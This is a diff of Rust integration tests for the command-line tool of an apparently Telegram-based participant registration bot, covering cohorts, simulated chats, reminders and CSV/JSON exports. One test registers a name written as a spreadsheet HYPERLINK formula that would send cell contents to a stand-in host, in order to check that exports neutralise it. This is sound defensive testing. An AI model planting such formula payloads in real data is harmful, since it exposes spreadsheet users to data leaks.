@@ -1,6 +1,5 @@
 //! The command line: the binary run as an organiser would run it, on a fresh database.
 
-use std::io::Write;
 use std::path::Path;
 
 use crate::support::cli::{Cli, stderr, stdout};
@@ -35,7 +34,7 @@ fn cohorts_add_prints_the_deep_link_and_writes_a_qr_code() {
     assert!(stderr(&again).contains("a cohort with the code TIRANA-2026 already exists"), "{}", stderr(&again));
 
     assert!(stdout(&cli.run(&["cohorts", "add", "SKOPJE-2026", "--name", "Skopje"])).contains("start=SKOPJE-2026"));
-    simulate(&cli, "5", &[], "/start TIRANA-2026\n1\n1\nAna\n2001\n1\n1\nTirana\n1\n");
+    cli.simulate("5", &[], "/start TIRANA-2026\n1\n1\nAna\n2001\n1\n1\nTirana\n1\n");
     let list = stdout(&cli.run(&["cohorts", "list"]));
     assert_eq!(
         list,
@@ -115,10 +114,10 @@ fn export_participants_writes_csv_and_json() {
     let empty = cli.run(&["export", "participants"]);
     assert!(empty.status.success(), "{}", stderr(&empty));
     let header = stdout(&empty);
-    assert!(header.starts_with("telegram_id,name,language,country,cohort,status,"), "{header}");
+    assert!(header.starts_with("\u{feff}telegram_id,name,language,country,cohort,status,"), "{header}");
 
     // Register someone through the simulator, then export.
-    let registered = simulate(&cli, "55", &[], "/start\n1\n1\nAna, \"the\" organiser\n2000\n1\n6\nNovi Sad\n1\n1\n");
+    let registered = cli.simulate("55", &[], "/start\n1\n1\nAna, \"the\" organiser\n2000\n1\n6\nNovi Sad\n1\n1\n");
     assert!(registered.contains("Thank you, Ana"), "{registered}");
 
     let csv = cli.run(&["export", "participants", "--format", "csv"]);
@@ -153,7 +152,7 @@ fn a_name_written_as_a_formula_is_text_in_the_csv_export_and_exact_in_json() {
     let cli = Cli::new();
     // Anyone can register, and organisers open CSV exports in spreadsheets, which would run this.
     let name = "=HYPERLINK(\"http://example.test/?\"&A1,\"Open\")";
-    let registered = simulate(&cli, "56", &[], &format!("/start\n1\n1\n{name}\n2000\n1\n6\n-Novi Sad\n1\n1\n"));
+    let registered = cli.simulate("56", &[], &format!("/start\n1\n1\n{name}\n2000\n1\n6\n-Novi Sad\n1\n1\n"));
     assert!(registered.contains("You are registered"), "{registered}");
     let csv = stdout(&cli.run(&["export", "participants"]));
     let row = csv.lines().nth(1).expect("one participant");
@@ -167,7 +166,7 @@ fn a_name_written_as_a_formula_is_text_in_the_csv_export_and_exact_in_json() {
 #[test]
 fn simulate_registers_in_albanian_from_a_pipe_and_exits_at_the_end() {
     let cli = Cli::new();
-    let out = simulate(&cli, "1", &[], "/start\n2\n1\nDrita\n2001\n1\n1\nShkoder\n1\n1\n/mydata\n");
+    let out = cli.simulate("1", &[], "/start\n2\n1\nDrita\n2001\n1\n1\nShkoder\n1\n1\n/mydata\n");
     assert!(out.contains("you> Drita"));
     assert!(out.contains("Faleminderit, Drita!"), "{out}");
     assert!(out.contains("Gjuha: Shqip"), "{out}");
@@ -180,13 +179,13 @@ fn simulate_registers_in_albanian_from_a_pipe_and_exits_at_the_end() {
 #[test]
 fn simulate_started_again_asks_the_open_question_again() {
     let cli = Cli::new();
-    let first = simulate(&cli, "3", &[], "/start\n1\n");
+    let first = cli.simulate("3", &[], "/start\n1\n");
     assert!(first.contains("     [1] I agree"), "{first}");
-    let again = simulate(&cli, "3", &[], "1\n");
+    let again = cli.simulate("3", &[], "1\n");
     let (shown, answered) = again.split_once("you> 1\n").expect("the question comes before the answer");
     assert!(shown.contains("     [1] I agree"), "the consent question, with its buttons: {again}");
     assert!(answered.contains("What is your name?"), "the button answered it: {again}");
-    let idle = simulate(&cli, "4", &[], "");
+    let idle = cli.simulate("4", &[], "");
     assert_eq!(idle, "", "a new chat has nothing to show");
 }
 
@@ -196,34 +195,19 @@ fn simulate_started_again_asks_the_open_question_again() {
 fn simulate_shows_a_reminder_due_for_the_person_played() {
     let cli = Cli::new();
     assert!(cli.run(&["cohorts", "add", "TIRANA-2026", "--name", "Tirana"]).status.success());
-    simulate(&cli, "5", &[], "/start TIRANA-2026\n1\n1\nAna\n2001\n1\n1\nTirana\n1\n");
+    cli.simulate("5", &[], "/start TIRANA-2026\n1\n1\nAna\n2001\n1\n1\nTirana\n1\n");
     let starts = (chrono::Utc::now() + chrono::Duration::hours(3)).with_timezone(&chrono_tz::Europe::Belgrade);
     let starts = starts.format("%Y-%m-%d %H:%M").to_string();
     let added = cli.run(&["sessions", "add", "--cohort", "TIRANA-2026", "--title", "Kick-off", "--starts", &starts]);
     assert!(added.status.success(), "{}", stderr(&added));
 
-    let out = simulate(&cli, "5", &[], "1\n/sessions\n");
+    let out = cli.simulate("5", &[], "1\n/sessions\n");
     let (arrived, rest) = out.split_once("you> 1\n").expect("the reminder comes before the first line");
     assert!(arrived.starts_with("bot> Reminder: Kick-off"), "{out}");
     assert!(arrived.contains(&starts) && arrived.contains("     [1] Coming"), "{out}");
     assert!(rest.contains("Saved: you are coming") && rest.contains("Your answer: coming"), "{out}");
-    let again = simulate(&cli, "5", &[], "/help\n");
+    let again = cli.simulate("5", &[], "/help\n");
     assert!(!again.contains("Reminder"), "sent once: {again}");
-}
-
-/// `simulate` played by `user` on the Cli's database, with `env` set and `input` on its standard input.
-fn simulate(cli: &Cli, user: &str, env: &[(&str, &str)], input: &str) -> String {
-    let mut sim = cli
-        .command(&["simulate", "--user", user])
-        .envs(env.iter().copied())
-        .stdin(std::process::Stdio::piped())
-        .stdout(std::process::Stdio::piped())
-        .spawn()
-        .unwrap();
-    sim.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
-    let done = sim.wait_with_output().unwrap();
-    assert!(done.status.success(), "{}", stderr(&done));
-    stdout(&done)
 }
 
 /// ADMIN_IDS makes organisers in `simulate` as in `serve`, so that their commands can be tried in the terminal;
@@ -232,7 +216,7 @@ fn simulate(cli: &Cli, user: &str, env: &[(&str, &str)], input: &str) -> String 
 fn simulate_makes_the_admin_ids_organisers() {
     let cli = Cli::new();
     let admin = [("ADMIN_IDS", "7")];
-    let out = simulate(&cli, "7", &admin, "/stats\n/grant\n2\n");
+    let out = cli.simulate("7", &admin, "/stats\n/grant\n2\n");
     assert!(!out.contains("that command is for"), "{out}");
     assert!(out.contains("The programme so far: 0 participants"), "{out}");
     // No username given, and none recorded by `serve`: the link says where it goes.
@@ -240,7 +224,7 @@ fn simulate_makes_the_admin_ids_organisers() {
     let audit = stdout(&cli.run(&["audit"]));
     assert!(audit.contains("organiser to 7"), "{audit}");
 
-    let named = simulate(&cli, "7", &[admin[0], ("BOT_USERNAME", "ActiveCitizensBot")], "/grant\n2\n");
+    let named = cli.simulate("7", &[admin[0], ("BOT_USERNAME", "ActiveCitizensBot")], "/grant\n2\n");
     assert!(named.contains(" https://t.me/ActiveCitizensBot?start=invite-"), "{named}");
 }
 
@@ -251,11 +235,11 @@ fn simulate_shows_a_new_sessions_qr_code_when_the_bot_is_named() {
     assert!(cli.run(&["cohorts", "add", "--name", "Tirana", "TIRANA-2026"]).status.success());
     let admin = ("ADMIN_IDS", "7");
     let new_session = |title: &str| format!("/newsession\n1\n{title}\n5\n2030-01-15 18:00\n2h\nYouth Centre\n1\n");
-    let unnamed = simulate(&cli, "7", &[admin], &new_session("Without a name"));
+    let unnamed = cli.simulate("7", &[admin], &new_session("Without a name"));
     assert!(unnamed.contains("Session created: Without a name"), "{unnamed}");
     assert!(!unnamed.contains("bot (photo)>"), "no QR code of a link to <bot>: {unnamed}");
 
-    let named = simulate(&cli, "7", &[admin, ("BOT_USERNAME", "ActiveCitizensBot")], &new_session("With a name"));
+    let named = cli.simulate("7", &[admin, ("BOT_USERNAME", "ActiveCitizensBot")], &new_session("With a name"));
     let code = named.split("start=checkin-").nth(1).and_then(|rest| rest.lines().next()).expect("a check-in link");
     assert!(named.contains(&format!("bot (photo)> checkin-{code}.png (")), "{named}");
 }
@@ -414,7 +398,7 @@ fn an_import_with_a_bad_row_imports_nothing_and_names_line_and_column() {
 #[test]
 fn export_rsvps_has_a_header_even_when_empty() {
     let cli = Cli::new();
-    let out = cli.run(&["export", "rsvps"]);
+    let out = cli.run(&["export", "rsvps", "--no-bom"]);
     assert!(out.status.success(), "{}", stderr(&out));
     assert_eq!(
         stdout(&out).trim(),
@@ -438,7 +422,7 @@ fn sessions_name_their_survey_and_feedback_exports_in_three_formats() {
     assert!(csv.status.success(), "{}", stderr(&csv));
     let header = stdout(&csv);
     assert!(
-        header.starts_with("response,session,session_title,cohort,survey,survey_version,submitted_at,"),
+        header.starts_with("\u{feff}response,session,session_title,cohort,survey,survey_version,submitted_at,"),
         "{header}"
     );
     assert!(
@@ -516,8 +500,13 @@ async fn summary_prints_markdown_or_json_draws_the_chart_and_recommendations_exp
 
     let csv = stdout(&cli.run(&["export", "recommendations"]));
     let mut lines = csv.lines();
-    assert_eq!(lines.next(), Some("id,theme,level,text,status,endorsements,created_at"));
+    assert_eq!(lines.next(), Some("\u{feff}id,theme,level,text,status,endorsements,created_at"));
     assert!(lines.next().unwrap().starts_with("1,environment-community,local,\"Plant trees along the river, proposal 1, with \"\"quotes\"\", commas\",approved,0,"));
+    // JSON as typed as the other exports: numbers as numbers, keys in column order.
+    let json = stdout(&cli.run(&["export", "recommendations", "--format", "json"]));
+    let value: serde_json::Value = serde_json::from_str(&json).expect("JSON");
+    assert_eq!((&value[0]["id"], &value[0]["endorsements"]), (&serde_json::json!(1), &serde_json::json!(0)));
+    assert!(json.find("\"id\"") < json.find("\"theme\"") && json.find("\"status\"") < json.find("\"created_at\""));
 }
 
 #[tokio::test]
@@ -610,4 +599,33 @@ fn an_export_goes_into_a_file_named_for_its_format() {
     // A name without one of the three extensions is the organiser's choice.
     let plain = cli.path("recs.txt");
     assert!(cli.run(&["export", "recommendations", "--out", plain.to_str().expect("UTF-8")]).status.success());
+}
+
+/// On a terminal the log (standard error) and the conversation (standard output) share the screen: `simulate`
+/// logs only warnings and errors unless RUST_LOG asks for more.
+#[test]
+fn simulate_keeps_the_terminal_for_the_conversation() {
+    let cli = Cli::new();
+    assert!(cli.run(&["cohorts", "add", "C1", "--name", "One"]).status.success());
+    // A session a few hours away: simulate's delivery queues its reminders, which is logged at info level.
+    let add_session = |title: &str| {
+        let starts = (chrono::Utc::now() + chrono::Duration::hours(3)).with_timezone(&chrono_tz::Europe::Belgrade);
+        let starts = starts.format("%Y-%m-%d %H:%M").to_string();
+        let added = cli.run(&["sessions", "add", "--cohort", "C1", "--title", title, "--starts", &starts]);
+        assert!(added.status.success(), "{}", stderr(&added));
+    };
+    let run = |log: Option<&str>| {
+        let mut command = cli.command(&["simulate"]);
+        match log {
+            Some(filter) => command.env("RUST_LOG", filter),
+            None => command.env_remove("RUST_LOG"),
+        };
+        let done = command.stdin(std::process::Stdio::null()).output().expect("the binary runs");
+        assert!(done.status.success(), "{}", stderr(&done));
+        stderr(&done)
+    };
+    add_session("First");
+    assert_eq!(run(None), "", "nothing logged at the default level");
+    add_session("Second");
+    assert!(run(Some("info")).contains("reminders queued"), "RUST_LOG still asks for more");
 }
